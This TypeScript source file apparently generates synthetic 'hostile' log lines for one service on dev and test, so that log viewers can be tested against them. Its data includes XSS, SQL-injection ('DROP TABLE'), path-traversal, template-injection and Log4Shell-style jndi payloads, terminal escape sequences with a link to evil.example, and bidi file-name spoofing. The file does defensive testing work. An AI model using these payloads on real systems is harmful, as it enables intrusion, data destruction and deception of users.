import type { LogLine } from '../kubernetes/types';
import type { Run } from './container-lines';
import type { Placement } from './placements';
import { hash, mix } from './random';

/** What programs print when nobody has thought of the reader, or when somebody has thought of him too well. */
export interface HostileLine extends LogLine {
  /** The time that the line itself gives, for whoever believes it. */
  claims?: number;
}

/** Whose developers are careless; elsewhere nobody has to look at such lines. */
const SERVICE = 'coupon-api';
const ENVIRONMENTS: readonly string[] = ['dev', 'test'];

const EVERY = 2 * 60_000;

/** How far in the future the clock of a wrong time stands. */
export const AHEAD = 48 * 60 * 60_000;

const HUGE = 200_000;

/** One after the other, over and over. */
const LINES: readonly ((time: number, state: number) => string)[] = [
  () =>
    'nickname=<script>document.title="owned"</script><img src=x onerror=alert(1)>',
  () =>
    '\u001b[31;1mERROR\u001b[0m \u001b]8;;https://evil.example/\u0007click here\u001b]8;;\u0007 \u001b[2J\u001b[1;1Hall is well',
  () => 'transfer to \u202egnp.exe\u202c approved \u2066user\u2069 \u200f42',
  () => 'before\u0000after \u0001\u0008 bell\u0007 \ufffe half a pair \ud83d',
  (_time, state) => {
    const piece = Buffer.from(`coupon-${state}-`).toString('base64');
    return `payload=${piece.repeat(Math.ceil(HUGE / piece.length))}`.slice(
      0,
      HUGE,
    );
  },
  (_time, state) =>
    `{"level":"error","msg":"cut off by the kernel","order":${state},"items":[{"sku":"A-1","price":12.`,
  (_time, state) =>
    `data:image/png;base64,${Buffer.from(String(state).repeat(120)).toString(
      'base64',
    )}`,
  time =>
    `{"time":"${new Date(
      time + AHEAD,
    ).toISOString()}","level":"warn","msg":"this clock is two days ahead"}`,
  () => '{{constructor.constructor("alert(1)")()}} ${jndi:ldap://x.example/a}',
  () => `${'한글 ไทย हिन्दी عربي 👩‍👩‍👧‍👦 '.repeat(4)}\tz\u0301\u0302\u0303\u0304`,
  () => "'; DROP TABLE coupons; -- ../../../../etc/passwd %00 %n%n%n",
  () => '',
];

/** The one among them that says a wrong time. */
const WRONG_CLOCK = 7;

/** Lines of the kind that break viewers, of one service on dev and test, rare and always the same. */
export function hostileLines(
  { service, environment }: Placement,
  { pod, runs }: { pod: string; runs: readonly Run[] },
  from: number,
  to: number,
): HostileLine[] {
  if (service.name !== SERVICE || !ENVIRONMENTS.includes(environment)) {
    return [];
  }
  const root = hash(pod, 'hostile');
  const shift = root % EVERY;
  const lines: HostileLine[] = [];
  const first = Math.ceil((from - shift) / EVERY);
  for (let turn = first; turn * EVERY + shift < to; turn++) {
    const time = turn * EVERY + shift;
    if (!runs.some(({ start, end }) => start <= time && time < end)) continue;
    const kind = turn % LINES.length;
    const text = LINES[kind](time, mix(root, turn));
    lines.push({
      time,
      text,
      ...(kind === WRONG_CLOCK && { claims: time + AHEAD }),
    });
  }
  return lines;
}
